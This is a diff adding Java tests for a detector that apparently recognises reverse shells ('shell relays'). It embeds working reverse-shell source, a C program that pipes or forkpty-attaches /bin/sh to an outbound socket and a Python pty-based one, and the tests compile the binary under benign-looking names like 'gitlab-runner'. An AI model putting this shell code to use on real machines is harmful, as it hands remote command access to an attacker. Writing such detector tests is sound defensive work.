@@ -3,13 +3,18 @@ package io.totem.policy.behaviour;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assumptions.assumeThat;
 
+import io.totem.policy.facts.Behaviour;
 import io.totem.policy.facts.Relations.ShellRelay;
+import io.totem.policy.facts.Relations.ShellRelay.Standing;
 import java.io.IOException;
+import java.net.Inet4Address;
 import java.net.InetAddress;
+import java.net.NetworkInterface;
 import java.net.ServerSocket;
 import java.net.Socket;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.Optional;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
@@ -140,6 +145,125 @@ class RealShellRelayTest {
                         + "p = subprocess.Popen(['bash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
                         + "time.sleep(60)");
         host.neverBelow(python, "bash", seen -> seen.relations().shellRelay().isPresent());
+    }
+
+    /** Its program has one half with the connection and the shell's input, and another, forked, with its output. */
+    private static final String COMPILED = """
+            #include <arpa/inet.h>
+            #include <pty.h>
+            #include <stdlib.h>
+            #include <string.h>
+            #include <unistd.h>
+            static void pump(int from, int to) { char b[999]; int n; while ((n = read(from, b, 999)) > 0) write(to, b, n); }
+            int main(int count, char **words) {
+                int s = socket(AF_INET, SOCK_STREAM, 0);
+                struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(words[2])), .sin_addr.s_addr = inet_addr(words[1])};
+                if (connect(s, (void *) &a, sizeof a)) return 1;
+                int in, out, master;
+                if (!strcmp(words[3], "pty")) {
+                    if (!forkpty(&master, 0, 0, 0)) { close(s); execl("/bin/sh", "sh", (char *) 0); }
+                    in = out = master;
+                } else {
+                    int p[2], q[2];
+                    pipe(p); pipe(q);
+                    if (!fork()) { dup2(p[0], 0); dup2(q[1], 1); dup2(q[1], 2); close(p[1]); close(q[0]); close(s); execl("/bin/sh", "sh", (char *) 0); }
+                    close(p[0]); close(q[1]); in = p[1]; out = q[0];
+                }
+                if (!fork()) { if (in != out) close(in); pump(out, s); return 0; }
+                if (in != out) close(out);
+                pump(s, in);
+            }
+            """;
+
+    private static final String PYTHON_FORKS_A_TERMINAL = """
+            import os, pty, socket
+            s = socket.create_connection(('%s', %d))
+            pid, master = pty.fork()
+            if pid == 0: os.execv('/bin/sh', ['sh'])
+            while True: os.write(master, s.recv(4096))
+            """;
+
+    @ParameterizedTest
+    @ValueSource(strings = {"pipes", "pty"})
+    void a_shell_that_a_compiled_program_carries_to_another_machine(String way) throws Exception {
+        Path program = compiled("gitlab-runner");
+        try (ServerSocket server = new ServerSocket(0, 1, otherMachine())) {
+            Process relay = host.start(
+                    program.toString(),
+                    server.getInetAddress().getHostAddress(),
+                    Integer.toString(server.getLocalPort()),
+                    way);
+            try (Socket _ = server.accept()) {
+                assertCarriedBy(relay, server.getLocalPort());
+                assertThat(host.below(relay, RealShellRelayTest::isCarried)
+                                .relations()
+                                .shellRelay())
+                        .hasValueSatisfying(found -> {
+                            assertThat(found.interpreter()).isFalse();
+                            assertThat(found.terminal()).isEqualTo(way.equals("pty"));
+                            assertThat(host.standing(found)).isIn(Standing.NOBODY, Standing.PERSON);
+                        });
+            }
+        }
+    }
+
+    @Test
+    void a_shell_on_a_terminal_of_pythons_that_it_carries_to_another_machine() throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, otherMachine())) {
+            Process python = host.start(
+                    "python3",
+                    "-c",
+                    PYTHON_FORKS_A_TERMINAL.formatted(server.getInetAddress().getHostAddress(), server.getLocalPort()));
+            try (Socket _ = server.accept()) {
+                assertCarriedBy(python, server.getLocalPort());
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"pipes", "pty"})
+    void a_compiled_program_that_talks_to_this_machine_alone_hands_nobody_a_shell(String way) throws Exception {
+        Path program = compiled("ttyd");
+        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.ofLiteral("127.0.0.1"))) {
+            Process relay = host.start(program.toString(), "127.0.0.1", Integer.toString(server.getLocalPort()), way);
+            try (Socket _ = server.accept()) {
+                host.neverBelow(relay, "sh", RealShellRelayTest::isCarried);
+            }
+        }
+    }
+
+    @Test
+    void a_shell_on_a_terminal_of_pythons_that_has_no_connection_is_nobodys_else() {
+        Process python = host.start("python3", "-c", """
+                import os, pty, time
+                if pty.fork()[0] == 0: os.execv('/bin/sh', ['sh'])
+                time.sleep(60)
+                """);
+        host.neverBelow(python, "sh", RealShellRelayTest::isCarried);
+    }
+
+    private static boolean isCarried(Behaviour seen) {
+        return seen.relations().shellRelay().isPresent();
+    }
+
+    private Path compiled(String name) throws IOException, InterruptedException {
+        assumeThat(Files.isExecutable(Path.of("/usr/bin/gcc"))).isTrue();
+        Path source = folder.resolve("relay.c");
+        Path program = folder.resolve(name);
+        Files.writeString(source, COMPILED);
+        Process gcc = host.start("/usr/bin/gcc", "-w", "-o", program.toString(), source.toString(), "-lutil");
+        assertThat(gcc.waitFor()).isZero();
+        return program;
+    }
+
+    /** An address of this machine that is not its loopback: to the table of connections it is like another machine's. */
+    private static InetAddress otherMachine() throws IOException {
+        Optional<InetAddress> found = NetworkInterface.networkInterfaces()
+                .flatMap(NetworkInterface::inetAddresses)
+                .filter(address -> address instanceof Inet4Address && !address.isLoopbackAddress())
+                .findFirst();
+        assumeThat(found).isPresent();
+        return found.orElseThrow();
     }
 
     private void assertCarried(String... programAndSpawned) throws IOException {
